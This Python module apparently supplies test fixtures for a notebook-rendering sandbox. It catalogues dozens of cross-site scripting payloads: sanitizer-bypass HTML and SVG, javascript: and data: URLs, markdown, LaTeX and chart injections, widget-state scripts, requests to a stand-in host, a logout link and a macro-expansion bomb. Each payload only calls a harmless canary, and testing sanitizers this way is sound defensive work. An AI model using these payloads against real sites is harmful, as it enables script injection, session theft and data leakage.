"""What a submission may try in the trainer's browser: markup, outputs, names. Each calls `canary` with its name, opens
a dialog, or asks an address with «kenari» in it; none does more."""

from __future__ import annotations

import base64
from typing import Any

AWAY = "http://kenari.invalid"


def _fires(name: str) -> str:
    return f"(window.canary||top.canary)('{name}')"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def markup() -> dict[str, str]:
    """Name -> HTML that acts where nothing stops it."""
    page = "<script>(window.canary||top.canary)('{}')</script>"
    return {
        "script": f"<script>{_fires('script')}</script>",
        "script-case": f"<ScRiPt >{_fires('script-case')}</sCrIpT >",
        "script-slash": f"<script/x>{_fires('script-slash')}</script/x>",
        "script-src": f"<script src='{AWAY}/a.js'></script>",
        "script-data": f"<script src='data:text/javascript,{_fires('script-data')}'></script>",
        "script-module": f"<script type='module'>{_fires('script-module')}</script>",
        "script-nested": f"<scr<script>ipt>{_fires('script-nested')}</scr</script>ipt>",
        "script-unclosed": f"<b>x<script>{_fires('script-unclosed')}//",
        "script-in-comment": f"<!--><script>{_fires('script-in-comment')}</script>-->",
        "script-in-conditional": f"<!--[if gte IE 4]><script>{_fires('conditional')}</script><![endif]-->",
        "script-in-bang": f"<!--!> --!><script>{_fires('script-in-bang')}</script>",
        "script-in-cdata": f"<![CDATA[<script>{_fires('script-in-cdata')}</script>]]>",
        "onerror": f'<img src=x onerror="{_fires("onerror")}">',
        "onerror-slash": f"<img/src/onerror={_fires('onerror-slash')}>",
        "onerror-newline": f'<img\nsrc=x\nonerror\n=\n"{_fires("onerror-newline")}">',
        "onerror-formfeed": f"<img\x0csrc=x\x0conerror={_fires('onerror-formfeed')}>",
        "onerror-nbsp": f"<img src=x\u00a0 onerror={_fires('onerror-nbsp')}>",
        "onerror-backtick": f"<img src=`x` onerror={_fires('onerror-backtick')}>",
        "onerror-quote": f"<img alt='<x' title=\"'><img src=x onerror={_fires('onerror-quote')}>\" src=x>",
        "onerror-entity": "<img src=x onerror=&#40;window&#46;canary||top.canary)('onerror-entity')>",
        "onerror-image": f"<image src=x onerror={_fires('onerror-image')}>",
        "onload-style": f"<style onload={_fires('onload-style')}></style>",
        "onload-body": f"<body onload={_fires('onload-body')}>",
        "ontoggle": f"<details open ontoggle={_fires('ontoggle')}><summary>a</summary></details>",
        "onfocus": f"<input autofocus onfocus={_fires('onfocus')}>",
        "onmouseover": f"<p onmouseover={_fires('onmouseover')}>lewat sini</p>",
        "onpointer": f"<b onpointerenter={_fires('onpointer')} onclick={_fires('onclick')}>klik</b>",
        "onanimation": "<style>@keyframes k{}</style>"
        f"<b style='animation-name:k' onanimationstart={_fires('onanimation')}>a</b>",
        "marquee": f"<marquee onstart={_fires('marquee')}>x</marquee>",
        "video": f"<video onerror={_fires('video')}><source src=x></video>",
        "audio": f"<audio src=x onerror={_fires('audio')}></audio>",
        "svg-onload": f"<svg onload={_fires('svg-onload')}>",
        "svg-onload-slash": f"<svg/onload={_fires('svg-onload-slash')}>",
        "svg-script": f"<svg><script>{_fires('svg-script')}</script></svg>",
        "svg-foreign": f"<svg><foreignObject><img src=x onerror={_fires('svg-foreign')}></foreignObject></svg>",
        "svg-use": f"<svg><use href='data:image/svg+xml;base64,{_b64(_svg(page.format('svg-use')))}#x'/></svg>",
        "svg-animate": "<svg><a><text x=9 y=9>klik</text>"
        f'<animate attributeName=href to="javascript:{_fires("svg-animate")}"/></a></svg>',
        "svg-set": f"<svg><set attributeName=x onbegin={_fires('svg-set')} begin=0s to=1></svg>",
        "link-javascript": f'<a href="javascript:{_fires("link-javascript")}">klik</a>',
        "link-case": f'<a href=" JaVaScRiPt:{_fires("link-case")}">klik</a>',
        "link-tab": f'<a href="java\tscript:{_fires("link-tab")}">klik</a>',
        "link-entity": f'<a href="&#106;avascript&colon;{_fires("link-entity")}">klik</a>',
        "link-control": f'<a href="\x01javascript:{_fires("link-control")}">klik</a>',
        "link-data": f'<a href="data:text/html,{page.format("link-data")}">klik</a>',
        "link-vbscript": f'<a href="vbscript:{_fires("link-vbscript")}">klik</a>',
        "link-logout": '<a href="/logout?kenari">klik</a>',
        "link-relative": '<a href="kenari.html">klik</a>',
        "link-two-slashes": '<a href="//kenari.invalid/a">klik</a>',
        "link-here": '<a href="http://127.0.0.1:8888/kenari">klik</a>',
        "iframe-srcdoc": f'<iframe srcdoc="{page.format("iframe-srcdoc")}"></iframe>',
        "iframe-javascript": f'<iframe src="javascript:{_fires("iframe-javascript")}"></iframe>',
        "iframe-data": f'<iframe src="data:text/html,{page.format("iframe-data")}"></iframe>',
        "iframe-away": f'<iframe src="{AWAY}/f"></iframe>',
        "object": f'<object data="data:text/html,{page.format("object")}"></object>',
        "embed": f'<embed src="data:text/html,{page.format("embed")}">',
        "meta-refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}/refresh">',
        "meta-refresh-data": f'<meta http-equiv=refresh content="0;url=data:text/html,{page.format("refresh")}">',
        "base": f'<base href="{AWAY}/"><img src="lewat-base.png">',
        "link-stylesheet": f'<link rel="stylesheet" href="{AWAY}/a.css">',
        "link-prefetch": f'<link rel="prefetch" href="{AWAY}/p"><link rel=dns-prefetch href="//kenari.invalid">',
        "style-import": f"<style>@import '{AWAY}/i.css';</style>",
        "style-url": f"<style>body{{background:url({AWAY}/u.png)}}</style>",
        "style-escape": f"<style>body{{background:\\75rl({AWAY}/e.png)}}</style>",
        "style-font": f"<style>@font-face{{font-family:k;src:url({AWAY}/f)}}body{{font-family:k}}</style>",
        "style-image-set": f"<b style=\"background-image:image-set('{AWAY}/s.png' 1x)\">a</b>",
        "style-attribute": f'<b style="background:url(&quot;{AWAY}/a.png&quot;)">a</b>',
        "picture-away": f'<img src="{AWAY}/p.png">',
        "picture-srcset": f'<img srcset="{AWAY}/s.png 1x"><picture><source srcset="{AWAY}/t.png"><img></picture>',
        "picture-logout": '<img src="/logout?kenari">',
        "picture-background": f'<table background="{AWAY}/b.png"><tr><td>a</td></tr></table>',
        "video-poster": f'<video poster="{AWAY}/v.png"></video>',
        "form": f'<form action="{AWAY}/form"><button autofocus>klik</button></form>',
        "form-id": f"<form id=kf action='javascript:{_fires('form-id')}'></form><button form=kf>klik</button>",
        "formaction": f'<form><button formaction="javascript:{_fires("formaction")}">klik</button></form>',
        "isindex": f"<input type=image src=x onerror={_fires('isindex')}>",
        "template": f"<template shadowrootmode=open><img src=x onerror={_fires('template')}></template>",
        "noscript": f'<noscript><p title="</noscript><img src=x onerror={_fires("noscript")}>"></noscript>',
        "title": f'<title><p title="</title><img src=x onerror={_fires("title")}>"></title>',
        "textarea": f'<textarea><p title="</textarea><img src=x onerror={_fires("textarea")}>"></textarea>',
        "xmp": f'<xmp><p title="</xmp><img src=x onerror={_fires("xmp")}>"></xmp>',
        "plaintext-math": f"<math><mtext></p><plaintext><img src=x onerror={_fires('plaintext-math')}>",
        "math-style": "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=x onerror={_fires("math-style")}&gt;">',
        "math-annotation": "<math><annotation-xml encoding='text/html'>"
        f"<img src=x onerror={_fires('math-annotation')}></annotation-xml></math>",
        "math-href": f'<math href="javascript:{_fires("math-href")}">klik</math>',
        "svg-style": f'<svg></p><style><a id="</style><img src=x onerror={_fires("svg-style")}>">',
        "form-math": "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="
        f'"</style><img src=x onerror={_fires("form-math")}>">',
        "select": f"<select><template><img src=x onerror={_fires('select')}></template></select>",
        "attribute-bidi": f"<b title='\u202e' onmouseover={_fires('attribute-bidi')}>a</b>",
        "bootstrap": "<b data-toggle='tooltip' data-html='true' "
        f'title="<img src=x onerror={_fires("bootstrap")}>">a</b>',
        "data-link": f'<a data-link="javascript:{_fires("data-link")}">klik</a>',
        "hundred": "<b>" * 400 + f"<img src=x onerror={_fires('hundred')}>",
        "isolated": f"<img src=x onerror={_fires('isolated')}>",
    }


def _svg(inside: str, attributes: str = "") -> str:
    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f'<svg {names} id="x" width="40" height="20" {attributes}>{inside}</svg>'


def drawings() -> dict[str, str]:
    """Name -> SVG."""
    return {
        "drawing-onload": _svg("", f'onload="{_fires("drawing-onload")}"'),
        "drawing-script": _svg(f"<script>{_fires('drawing-script')}</script>"),
        "drawing-foreign": _svg("<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>"
                                f"<img src='x' onerror=\"{_fires('drawing-foreign')}\"/></body></foreignObject>"),
        "drawing-link": _svg(f"<a xlink:href=\"javascript:{_fires('drawing-link')}\"><text y='9'>klik</text></a>"),
        "drawing-use": _svg(f"<use href='{AWAY}/u.svg#a'/><image href='{AWAY}/i.png'/>"),
        "drawing-animate": _svg(f"<set attributeName='x' to='1' onbegin=\"{_fires('drawing-animate')}\"/>"),
        "drawing-style": _svg(f"<style>@import '{AWAY}/d.css'; rect{{fill:url({AWAY}/d.svg#a)}}</style><rect/>"),
        "drawing-entity": f"<!DOCTYPE svg [<!ENTITY k \"<script>{_fires('drawing-entity')}</script>\">]>{_svg('&k;')}",
        "drawing-cdata": _svg(f"<style><![CDATA[</style><script>{_fires('drawing-cdata')}</script>]]></style>"),
        "drawing-prefix": "<x:svg xmlns:x='http://www.w3.org/2000/svg'>"
        f"<x:script>{_fires('drawing-prefix')}</x:script></x:svg>",
    }  # fmt: skip


def picture(name: str) -> str:
    """An SVG with a script, in base64, as an attachment of a cell has it."""
    return _b64(_svg(f"<script>{_fires(name)}</script>"))


def formulas() -> dict[str, str]:
    """Name -> LaTeX."""
    return {
        "formula-href": rf"$\href{{javascript:{_fires('formula-href')}}}{{klik}}$",
        "formula-style": rf"$\style{{background:url({AWAY}/m.png)}}{{x}}$",
        "formula-require": r"$\require{html}\class{full-credit}{x}\cssId{statusmessage}{y}$",
        "formula-bomb": r"$\def\a{\b\b\b\b\b\b\b\b\b\b}\def\b{\c\c\c\c\c\c\c\c\c\c}\def\c{\a\a}\a$",
        "formula-text": rf"$\text{{<img src=x onerror={_fires('formula-text')}>}}$",
        "formula-unicode": rf"$\unicode[<img src=x onerror={_fires('formula-unicode')}>]{{65}}$",
    }


def texts() -> dict[str, str]:
    """Name -> markdown, beside HTML in markdown."""
    return {
        "md-link": f"[klik](javascript:{_fires('md-link')})",
        "md-link-entity": f"[klik](&#106;avascript:{_fires('md-link-entity')})",
        "md-reference": f"[klik][k]\n\n[k]: javascript:{_fires('md-reference').replace(' ', '')}",
        "md-auto": f"<javascript:{_fires('md-auto')}>",
        "md-data": "[klik](data:text/html;base64," + _b64(f"<script>{_fires('md-data')}</script>") + ")",
        "md-picture": f"![gambar]({AWAY}/md.png)",
        "md-title": f"![a](x.png \"' onerror={_fires('md-title')} '\")",
        "md-picture-quote": f'![" onerror={_fires("md-picture-quote")} "](x.png)',
        "md-code": f'```html" onmouseover="{_fires("md-code")}\n<img src=x onerror={_fires("md-code-2")}>\n```',
        "md-mermaid": f'```mermaid\ngraph TD\nA-->B["<img src=x onerror={_fires("md-mermaid")}>"]\n'
        f'click A "javascript:{_fires("md-mermaid-click")}"\n```',
        "md-heading": f"# <img src=x onerror={_fires('md-heading')}>",
        "md-heading-id": f'# a" onmouseover="{_fires("md-heading-id")}',
        "md-table": f"| a |\n|---|\n| <img src=x onerror={_fires('md-table')}> |",
        "md-math": f"$x<img src=x onerror={_fires('md-math')}>$",
        "md-math-block": f"$$\\begin{{a}}<script>{_fires('md-math-block')}</script>\\end{{a}}$$",
        "md-files": f"<img src='/files/{AWAY}/x.png'> [klik](files/javascript:{_fires('md-files')})",
    }


def attached() -> dict[str, str]:
    """Name -> markdown that shows an attachment of its cell; nbconvert refuses the page where there is none."""
    return {
        "md-attachment": "![a](attachment:gambar.png) ![b](attachment:tidak-ada.png)",
        "md-attachment-quote": f'![a](attachment:x"onerror="{_fires("md-attachment-quote")})',
    }


def chart() -> dict[str, Any]:
    """A Vega-Lite chart that loads from elsewhere and computes."""
    return {
        "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
        "data": {"url": f"{AWAY}/data.json"},
        "transform": [{"calculate": "toString(window)", "as": "b"}],
        "mark": {"type": "image", "url": f"{AWAY}/bild.png", "href": f"javascript:{_fires('chart')}"},
        "usermeta": {"embedOptions": {"patch": f"{AWAY}/patch.json"}},
        "encoding": {"x": {"field": "a"}},
    }


def widget_state() -> dict[str, Any]:
    """State that a notebook may store: controls whose text is HTML, and one whose program is in the state."""
    code = f"{_fires('widget-esm')}; export default {{render() {{ {_fires('widget-render')} }}}}"
    picture = f'<img src=x onerror="{_fires("widget-html")}">'
    layout = {"layout": "IPY_MODEL_" + "c" * 32}
    state = {
        "a" * 32: ("@jupyter-widgets/controls", "2.0.0", "HTML", {"value": picture} | layout),
        "b" * 32: ("anywidget", "~0.11.*", "Any", {"_esm": code, "_anywidget_id": "kenari"} | layout),
        "c" * 32: ("@jupyter-widgets/base", "2.0.0", "Layout", {}),
    }
    return {"version_major": 2, "version_minor": 0, "state": {model: _model(*each) for model, each in state.items()}}


def _model(module: str, version: str, name: str, state: dict[str, Any]) -> dict[str, Any]:
    kinds = {
        f"_{kind}_{part}": value
        for kind in ("model", "view")
        for part, value in (("name", name + kind.title()), ("module", module), ("module_version", version))
    }
    known = {key.removeprefix("_"): value for key, value in kinds.items() if key.startswith("_model")}
    return known | {"state": kinds | state}


def bundles() -> list[dict[str, Any]]:
    """Outputs as a kernel sends them: data, and sometimes metadata."""
    view = {"version_major": 2, "version_minor": 0}
    made = [{"data": {"text/html": text, "text/plain": name}} for name, text in markup().items()]
    made += [{"data": {"image/svg+xml": text, "text/plain": name}} for name, text in drawings().items()]
    made += [{"data": {"text/latex": text}} for text in formulas().values()]
    made += [{"data": {"text/markdown": text}} for text in [*texts().values(), *markup().values()]]
    made += [
        {"data": {"application/javascript": _fires("javascript"), "text/plain": "x"}},
        {"data": {"text/javascript": _fires("text-javascript")}},
        {"data": {"application/xhtml+xml": markup()["script"]}},
        {"data": {"text/vnd.mermaid": f'graph TD\nA["<img src=x onerror={_fires("mermaid")}>"]'}},
        {"data": {"application/pdf": _b64("%PDF-1.4")}},
        {"data": {"application/vnd.vegalite.v5+json": chart(), "text/plain": "grafik"}},
        {"data": {"application/vnd.plotly.v1+json": {"data": [], "layout": {"title": markup()["onerror"]}}}},
        {"data": {"application/vnd.jupyter.widget-view+json": view | {"model_id": "a" * 32}, "text/plain": "HTML()"}},
        {"data": {"application/vnd.jupyter.widget-view+json": view | {"model_id": "b" * 32}}},
        {"data": {"text/html": markup()["isolated"]}, "metadata": {"text/html": {"isolated": True}}},
        {"data": {"image/png": _b64(markup()["script"])}},
        {"data": {"image/png": PNG}, "metadata": {"image/png": {"width": f"1 onerror={_fires('width')} src=x"}}},
        {"data": {"image/png": PNG}, "metadata": {"filenames": {"image/png": f"{AWAY}/png.png"}}},
        {"data": {"application/vnd.kenari+json": {"a": markup()["script"]}}},
    ]
    return made


# one grey pixel
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNoAAAAggCBd81ytgAAAABJRU5ErkJggg=="
